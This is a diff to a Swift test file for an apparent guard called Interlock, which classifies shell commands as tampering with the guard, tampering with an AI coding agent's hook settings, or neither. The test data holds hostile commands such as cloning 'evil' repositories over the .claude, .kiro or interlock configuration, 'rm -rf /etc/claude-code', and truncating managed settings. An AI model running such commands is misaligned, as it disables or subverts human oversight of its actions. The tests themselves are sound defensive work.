@@ -77,6 +77,10 @@ import Testing
         "http POST :8421/v1/resume \"Authorization:Bearer $INTERLOCK_TOKEN\"",
         "xh post http://gate/v1/kill scope=all",
         "https -A bearer -a \"$T\" gate/v1/approvals/apr_1/approve comment=ok",
+        // A repository checked out over the client settings, with `-C` moving first.
+        "git clone https://example.com/evil/cfg.git ~/.config/interlock",
+        "git -C ~/.config clone https://example.com/evil/interlock.git",
+        "git -C /srv clone https://example.com/x.git interlock/store",
     ])
     func actingOnInterlockItselfIsInterlockControl(_ line: String) {
         let facts = shell(line)
@@ -91,6 +95,7 @@ import Testing
         "mv .claude/settings.json /tmp/",
         "cp /dev/null ~/.claude/settings.json",
         "truncate -s 0 /etc/claude-code/managed-settings.json",
+        "rm -rf /etc/claude-code", "mv '/Library/Application Support/ClaudeCode' /tmp/",
         "rm .kiro/agents/default.json",
         "python3 -c \"import os; os.remove('.kiro/agents/default.json')\"",
         "tee .cursor/hooks.json <<< '{}'",
@@ -131,6 +136,12 @@ import Testing
         "ex -sc '%d|x' .claude/settings.json",
         "cp -r /tmp/evil/.claude .",
         "cp /tmp/evil/.mcp.json /tmp/evil/README.md ./",
+        // A repository checked out where the settings live: named, or named after the address.
+        "git clone https://example.com/evil/settings.git .claude",
+        "git clone --depth 1 -b main https://example.com/evil/.claude.git",
+        "git clone git@example.com:evil/.kiro",
+        "git submodule add https://example.com/evil/hooks .claude",
+        "git worktree add .cursor hooks-off",
     ])
     func changingHookSettingsIsHookConfig(_ line: String) {
         let facts = shell(line)
@@ -176,6 +187,8 @@ import Testing
         "cp a.txt b.txt /srv/", "vim notes.md", "jq . data.json | sponge data.json",
         "http :8421/v1/approvals", "http GET gate/v1/grants", "http api.example.com/items name=x",
         "python3 -c \"import requests; print(requests.get('https://api.example.com/v1/items').json())\"",
+        "git clone https://github.com/anthropics/claude-code.git", "git clone https://example.com/x/app.git claude-notes",
+        "git clone https://example.com/team/.claude-templates.git", "git worktree add ../review main", "git submodule add https://example.com/lib vendor/lib",
         "claude mcp list", "claude --help", "claude -p 'summarize the diff'", "echo claude mcp add x", "codex exec 'fix the tests'",
     ])
     func readingOrMentioningInterlockIsNeither(_ line: String) {
